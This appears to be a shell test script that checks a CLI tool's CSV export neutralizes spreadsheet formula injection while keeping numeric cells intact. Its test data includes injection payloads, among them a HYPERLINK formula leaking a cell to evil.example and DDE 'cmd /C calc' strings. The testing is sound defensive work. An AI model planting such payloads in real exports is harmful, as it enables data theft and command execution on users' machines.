#!/bin/sh
# csv_injection.sh - CSV cells a spreadsheet would read as a formula get a
# leading ' (OWASP's advice); numbers stay numbers; --raw writes them as they are.
. "$CSC_ROOT/tests/lib.sh"
command -v sqlite3 > /dev/null || { echo "SKIP: needs the sqlite3 shell (apt-get install sqlite3)"; exit 77; }
setup_book aiko

# Hostile account names from the CRM feed: ID, then the name as a YAML
# double-quoted string (\t and \r are a tab and a carriage return).
cat > "$T/names" <<'EOF'
ACC-0002 "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")"
ACC-0003 "@SUM(1+1)*cmd|' /C calc'!A0"
ACC-0004 "+1"
ACC-0005 "\t=1"
ACC-0006 "\r=1"
ACC-0007 "-2+3+cmd|' /C calc'!A0"
ACC-0008 "+1+1"
ACC-0009 "-5"
ACC-0010 "  =1+1"
ACC-0011 "-1.5e3"
EOF
acc="$T/shared/feeds/accounts.yaml"
awk 'NR == FNR { id = $1; sub(/^[^ ]* /, ""); name[id] = $0; next }
     /^  - id: / { cur = $3 }
     /^    name: / && (cur in name) { print "    name: " name[cur]; done[cur] = 1; next }
     { print }
     END { for (id in name) if (!(id in done)) { print "no account " id > "/dev/stderr"; exit 1 } }' \
  "$T/names" "$acc" > "$T/accounts.yaml"
mv "$T/accounts.yaml" "$acc"
"$CSC" sync > "$T/sync.out" 2>&1 || { cat "$T/sync.out"; fail "sync failed"; }

"$CSC" accounts --scope team --format csv > "$T/out.csv"
# cell FILE ID COLUMN: one cell, as a spreadsheet would read it (CSV unquoted).
cell() { sqlite3 :memory: ".import --csv $1 t" "SELECT $3 FROM t WHERE id = '$2'"; }
expect() {
  got=$(cell "$T/out.csv" "$1" account)
  [ "$got" = "$2" ] || fail "$1: account cell [$got], expected [$2]"
}
# The sanitizer turns a tab or CR into a space: " =1" is neutralized all the
# same (a spreadsheet may trim leading blanks before reading a formula).
expect ACC-0002 "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")"
expect ACC-0003 "'@SUM(1+1)*cmd|' /C calc'!A0"
expect ACC-0005 "' =1"
expect ACC-0006 "' =1"
expect ACC-0007 "'-2+3+cmd|' /C calc'!A0"
expect ACC-0008 "'+1+1"
expect ACC-0010 "'  =1+1"
# A cell that is a number and nothing else cannot be a formula: as it is.
expect ACC-0004 "+1"
expect ACC-0009 "-5"
expect ACC-0011 "-1.5e3"
# An ordinary name is untouched.
[ "$(cell "$T/out.csv" ACC-0001 account)" = "株式会社さくらロジスティクス" ] || fail "ACC-0001's name changed"

# No cell of the file starts with a formula character unless it is a number.
sqlite3 :memory: ".import --csv $T/out.csv t" "SELECT * FROM t" -separator "$(printf '\037')" -newline "$(printf '\036')" |
  tr '\036\037' '\n\n' | sed 's/^[[:space:]]*//' | grep -E '^[-+=@]' |
  grep -vxE '[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?' > "$T/formulas" || true
[ ! -s "$T/formulas" ] || fail "cells a spreadsheet reads as formulas: $(cat "$T/formulas")"

# Numeric columns stay numbers: the 4-week change has negative values.
sqlite3 :memory: ".import --csv $T/out.csv t" "SELECT health_4w FROM t WHERE health_4w <> ''" > "$T/delta"
grep -q '^-[0-9]' "$T/delta" || fail "no negative 4-week change in the book: $(sort -u "$T/delta" | head -5)"
grep -q '^+[0-9]' "$T/delta" || fail "no positive 4-week change in the book: $(sort -u "$T/delta" | head -5)"
! grep -vxE '0|[-+][0-9]+' "$T/delta" > "$T/bad" || fail "4-week changes that are not numbers: $(head -3 "$T/bad")"

# --raw: the cells as they are, for a program that reads the CSV.
"$CSC" accounts --scope team --format csv --raw > "$T/raw.csv"
[ "$(cell "$T/raw.csv" ACC-0002 account)" = '=HYPERLINK("http://evil.example/?q="&A1,"Click")' ] ||
  fail "--raw changed ACC-0002: $(cell "$T/raw.csv" ACC-0002 account)"
[ "$(cell "$T/raw.csv" ACC-0003 account)" = "@SUM(1+1)*cmd|' /C calc'!A0" ] || fail "--raw changed ACC-0003"
# --raw is only about CSV.
assert_status 2 "$CSC" accounts --raw > "$T/out" 2> "$T/err"
assert_contains "$T/err" "--raw"
exit 0
